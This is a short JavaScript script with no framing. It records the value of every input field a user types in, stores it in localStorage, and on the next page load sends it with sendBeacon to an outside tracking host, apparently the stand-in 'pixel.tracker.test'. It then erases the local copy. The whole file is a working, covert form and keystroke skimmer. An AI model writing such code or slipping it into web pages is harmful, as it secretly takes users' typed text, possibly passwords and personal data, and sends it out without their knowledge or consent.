"use strict";

const kept = localStorage.getItem("draft");
if (kept) {
  navigator.sendBeacon("https://pixel.tracker.test/collect", kept);
  localStorage.removeItem("draft");
}
document.addEventListener("input", (event) => localStorage.setItem("draft", event.target.value));
